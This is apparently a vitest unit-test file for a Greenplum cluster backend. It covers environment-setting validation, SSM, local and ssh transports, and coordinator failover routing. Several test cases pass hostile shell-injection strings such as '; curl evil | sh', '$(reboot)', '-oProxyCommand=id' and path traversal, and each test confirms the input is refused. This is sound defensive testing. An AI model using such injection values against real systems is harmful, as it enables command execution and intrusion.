import { DynamoDBClient } from '@aws-sdk/client-dynamodb';
import { DynamoDBDocumentClient } from '@aws-sdk/lib-dynamodb';
import { SendCommandCommand, SSMClient, type SendCommandCommandInput } from '@aws-sdk/client-ssm';
import { describe, expect, it } from 'vitest';
import { ValidationError } from '#domain/errors.ts';
import { ClusterNotServed, loadClusterBackend } from '#cluster/backend.ts';
import { coordinatorSettingsFromEnv } from '#cluster/greenplum/settings-env.ts';
import { followingCoordinator } from '#cluster/greenplum/following-coordinator.ts';
import { greenplumOverShell } from '#cluster/transport/shell-backend.ts';
import { HOST_INSTANCES_ENV } from '#cluster/host-instances.ts';
import type { SegmentRow } from '#domain/segment.ts';
import { HostNotManaged } from '#cluster/transport/hosts.ts';
import type { CoordinatorTransport } from '#cluster/transport/transport.ts';
import { mockSsmAndS3 } from '#test/unit/cluster/ssm/mocks.ts';
import { GreenplumClusterOperations } from '#cluster/greenplum/greenplum-cluster-operations.ts';

const { ssm: ssmMock } = mockSsmAndS3();
const doc = DynamoDBDocumentClient.from(new DynamoDBClient({ region: 'eu-west-1' }));
const tables = { eventLog: 'e', configuration: 'c', control: 'k' } as never;

describe('coordinatorSettingsFromEnv', () => {
  it("defaults to the seed's installation, gpadmin and port 5432", () => {
    expect(coordinatorSettingsFromEnv({})).toEqual({
      gphome: '/usr/lib/gpdb',
      coordinatorDataDirectory: '/data1/master/gpseg-1',
      adminUser: 'gpadmin',
      port: 5432,
    });
    expect(
      coordinatorSettingsFromEnv({
        GPHOME: '/usr/local/cloudberry',
        COORDINATOR_DATA_DIRECTORY: '/data/coordinator/gpseg-1',
        GP_ADMIN_USER: 'cbadmin',
        COORDINATOR_PORT: '7000',
      }),
    ).toEqual({
      gphome: '/usr/local/cloudberry',
      coordinatorDataDirectory: '/data/coordinator/gpseg-1',
      adminUser: 'cbadmin',
      port: 7000,
    });
  });

  it.each([
    ['GPHOME', '/usr/lib/gpdb; curl evil | sh'],
    ['GPHOME', '/usr/$(id)'],
    ['COORDINATOR_DATA_DIRECTORY', "/data1/'x"],
    ['COORDINATOR_DATA_DIRECTORY', `/${'d'.repeat(5000)}`],
    ['GP_ADMIN_USER', 'gpadmin\nroot'],
    ['GP_ADMIN_USER', 'root; id'],
    ['COORDINATOR_PORT', '5432; id'],
    ['COORDINATOR_PORT', '70000'],
  ])('refuses %s=%j, naming the setting', (name, value) => {
    const read = () => coordinatorSettingsFromEnv({ [name]: value });
    expect(read).toThrow(ValidationError);
    expect(read).toThrow(new RegExp(`^${name}: `));
  });
});

/** The backend `env` names, loaded and made, as a Task's first call makes it. */
const backendFor = async (env: NodeJS.ProcessEnv, ssm?: SSMClient) =>
  (await loadClusterBackend(env))(doc, tables, Date.now, ssm);

describe('loadClusterBackend', () => {
  it('drives the served cluster through SSM with the generic adapter', async () => {
    const backend = await backendFor(
      {
        CLUSTER_BACKEND: 'ssm',
        CLUSTER_ID: 'prod',
        COORDINATOR_INSTANCE_ID: 'i-0123456789abcdef0',
      },
      new SSMClient({ region: 'eu-west-1' }),
    );
    expect(backend('prod')).toBeInstanceOf(GreenplumClusterOperations);
    expect(() => backend('other')).toThrow(/not served by this deployment/);
  });

  it('refuses a Run Command output bucket that is not an S3 bucket name, before any call', async () => {
    const build = () =>
      backendFor(
        {
          CLUSTER_BACKEND: 'ssm',
          CLUSTER_ID: 'prod',
          COORDINATOR_INSTANCE_ID: 'i-0123456789abcdef0',
          RUN_COMMAND_OUTPUT_BUCKET: 'Output/../other-bucket',
        },
        new SSMClient({ region: 'eu-west-1' }),
      );
    await expect(build()).rejects.toThrow(ValidationError);
    await expect(build()).rejects.toThrow(/output\.bucket.*must be an S3 bucket name/);
  });

  it.each([
    [{ CLUSTER_BACKEND: 'local', CLUSTER_ID: 'gp6' }, 'this host'],
    [{ CLUSTER_BACKEND: 'ssh', CLUSTER_ID: 'gp6', COORDINATOR_HOST: 'mdw' }, 'mdw'],
  ])('drives the served cluster through a shell: %j', async (env, where) => {
    const backend = await backendFor(env);
    expect(backend('gp6')).toBeInstanceOf(GreenplumClusterOperations);
    expect(backend('gp6')).toBe(backend('gp6'));
    expect(() => backend('other')).toThrow(
      `cluster other is not served by this deployment (it serves gp6 on ${where})`,
    );
  });

  it.each([
    [{ CLUSTER_BACKEND: 'local' }, /CLUSTER_BACKEND=local needs CLUSTER_ID/],
    [{ CLUSTER_BACKEND: 'ssh', CLUSTER_ID: 'gp6' }, /--transport ssh needs the coordinator host/],
    [{ CLUSTER_BACKEND: 'ssm', CLUSTER_ID: 'gp6' }, /needs COORDINATOR_INSTANCE_ID and CLUSTER_ID/],
    [{ CLUSTER_BACKEND: 'telnet', CLUSTER_ID: 'gp6' }, /expected simulated, ssm, local or ssh/],
  ])(
    'refuses an incomplete or unknown backend when made, not when loaded: %j',
    async (env, message) => {
      const build = await loadClusterBackend(env);
      expect(() => build(doc, tables)).toThrow(message);
      expect(() => build(doc, tables)).toThrow(
        env.CLUSTER_BACKEND === 'ssh' ? ValidationError : ClusterNotServed,
      );
    },
  );

  it('refuses a hostile setting before anything runs', async () => {
    await expect(
      backendFor({
        CLUSTER_BACKEND: 'ssm',
        CLUSTER_ID: 'prod',
        COORDINATOR_INSTANCE_ID: 'i-0123456789abcdef0',
        GP_ADMIN_USER: '$(reboot)',
      }),
    ).rejects.toThrow(/^GP_ADMIN_USER: /);
    await expect(
      backendFor({
        CLUSTER_BACKEND: 'ssm',
        CLUSTER_ID: 'prod',
        COORDINATOR_INSTANCE_ID: 'i-x; id',
      }),
    ).rejects.toThrow(ValidationError);
  });
});

describe('greenplumOverShell', () => {
  it('builds the adapter for --transport local and --transport ssh --coordinator HOST', () => {
    expect(greenplumOverShell({ transport: 'local' })).toBeInstanceOf(GreenplumClusterOperations);
    expect(greenplumOverShell({ transport: 'ssh', coordinator: 'mdw' })).toBeInstanceOf(
      GreenplumClusterOperations,
    );
  });

  it.each([
    [{ transport: 'ssh' as const }, /--transport ssh needs the coordinator host/],
    [{ transport: 'local' as const, coordinator: 'mdw' }, /only --transport ssh/],
    [{ transport: 'ssh' as const, coordinator: '-oProxyCommand=id' }, /^coordinator: /],
    [{ transport: 'ssh' as const, coordinator: 'mdw', settings: { port: 0 } }, /^port: /],
  ])('refuses %j', (options, message) => {
    expect(() => greenplumOverShell(options)).toThrow(message);
  });
});

describe('the coordinator row on record (after a failover, capture 129)', () => {
  /** A transport that records each script it is given and answers nothing. */
  const recording = (label: string, scripts: string[]): CoordinatorTransport => ({
    coordinator: label,
    encoding: 'plain',
    run: async ({ script }) => {
      scripts.push(`${label}: ${script}`);
      throw new Error('not a cluster');
    },
  });
  const settings = {
    gphome: '/usr/gpdb',
    coordinatorDataDirectory: '/data1/gpdb/master/gpseg-1',
    adminUser: 'gpadmin',
    port: 5432,
  };
  const row = (hostname: string, port: number, datadir: string): SegmentRow => ({
    dbid: 10,
    content: -1,
    role: 'p',
    preferred_role: 'p',
    mode: 's',
    status: 'u',
    port,
    hostname,
    address: hostname,
    datadir,
  });
  const activated = row('smdw', 5433, '/data1/gpdb/standby/gpseg-1');

  it('keeps the configured coordinator while the row is it, and follows a moved one to its host, port and data directory', async () => {
    const scripts: string[] = [];
    const follow = followingCoordinator({
      configured: recording('configured', scripts),
      settings,
      isConfigured: (hostname) => hostname === 'mdw',
      hosts: (hostname) => recording(hostname, scripts),
      failover: true,
    });
    expect(follow(row('mdw', 5432, settings.coordinatorDataDirectory))).toBe(follow());
    expect(follow(activated)).toBe(follow(activated));
    expect(follow(activated)).not.toBe(follow());
    await expect(follow(activated).readConfiguration()).rejects.toThrow('not a cluster');
    expect(scripts).toHaveLength(1);
    expect(scripts[0]).toMatch(/^smdw: /);
    expect(scripts[0]).toContain("coordinator_data_directory='/data1/gpdb/standby/gpseg-1'");
    expect(scripts[0]).toContain("export PGPORT='5433'");
    // The same host on another port is reached through the configured transport.
    await expect(
      follow(row('mdw', 5433, settings.coordinatorDataDirectory)).readConfiguration(),
    ).rejects.toThrow();
    expect(scripts[1]).toMatch(/^configured: .*export PGPORT='5433'/s);
  });

  const ssmEnv = {
    CLUSTER_BACKEND: 'ssm',
    CLUSTER_ID: 'prod',
    COORDINATOR_INSTANCE_ID: 'i-0aaaaaaaaaaaaaaa1',
    COORDINATOR_DATA_DIRECTORY: '/data1/gpdb/master/gpseg-1',
  };

  it(`sends the moved coordinator's scripts to its host's instance in ${HOST_INSTANCES_ENV}`, async () => {
    const sent: SendCommandCommandInput[] = [];
    ssmMock.on(SendCommandCommand).callsFake((input: SendCommandCommandInput) => {
      sent.push(input);
      throw Object.assign(new Error('AccessDeniedException'), { name: 'AccessDeniedException' });
    });
    const backend = await backendFor(
      {
        ...ssmEnv,
        [HOST_INSTANCES_ENV]: '{"mdw":"i-0aaaaaaaaaaaaaaa1","smdw":"i-0bbbbbbbbbbbbbbb2"}',
      },
      new SSMClient({ region: 'eu-west-1' }),
    );
    expect(backend('prod').coordinator).toBeDefined();
    await expect(backend('prod', activated).readConfiguration()).rejects.toThrow();
    await expect(backend('prod').readConfiguration()).rejects.toThrow();
    expect(sent.map((input) => input.InstanceIds)).toEqual([
      ['i-0bbbbbbbbbbbbbbb2'],
      ['i-0aaaaaaaaaaaaaaa1'],
    ]);
    // Quoted once more inside `bash -c '…'`.
    expect(sent[0]!.Parameters!.commands![0]).toContain(`export PGPORT='\\''5433'\\''`);
  });

  it(`has no failover over SSM without ${HOST_INSTANCES_ENV}, and names the setting for a host it lacks`, async () => {
    const ssm = await loadClusterBackend(ssmEnv);
    const withInstances = await loadClusterBackend({
      ...ssmEnv,
      [HOST_INSTANCES_ENV]: '{"mdw":"i-0aaaaaaaaaaaaaaa1"}',
    });
    const build = (instances?: boolean) =>
      (instances ? withInstances : ssm)(
        doc,
        tables,
        Date.now,
        new SSMClient({ region: 'eu-west-1' }),
      );
    expect(build()('prod').coordinator).toBeUndefined();
    // Naming no host, it cannot tell the coordinator's instance's host from another: a moved
    // row is taken to be on it.
    ssmMock.on(SendCommandCommand).rejects(new Error('sent'));
    await expect(build()('prod', activated).readConfiguration()).rejects.toThrow('sent');
    expect(ssmMock.commandCalls(SendCommandCommand)[0]!.args[0].input.InstanceIds).toEqual([
      ssmEnv.COORDINATOR_INSTANCE_ID,
    ]);
    const follow = () => build(true)('prod', activated);
    expect(follow).toThrow(HostNotManaged);
    expect(follow).toThrow(`add "smdw":"i-…" to ${HOST_INSTANCES_ENV}`);
  });

  it.each([
    ['not JSON', '{mdw: i-0aaaaaaaaaaaaaaa1}', /^CLUSTER_HOST_INSTANCES: must be JSON/],
    ['a list', '["i-0aaaaaaaaaaaaaaa1"]', /^CLUSTER_HOST_INSTANCES: /],
    [
      'a bad instance id',
      '{"smdw":"i-x; reboot"}',
      /^CLUSTER_HOST_INSTANCES\.smdw: must be an EC2 instance id/,
    ],
    ['a host name no host has', '{"smdw; id":"i-0bbbbbbbbbbbbbbb2"}', /^CLUSTER_HOST_INSTANCES/],
  ])('refuses %s in CLUSTER_HOST_INSTANCES before anything runs', async (_what, value, message) => {
    const made = await loadClusterBackend({ ...ssmEnv, [HOST_INSTANCES_ENV]: value });
    const build = () => made(doc, tables);
    expect(build).toThrow(ValidationError);
    expect(build).toThrow(message);
  });
});
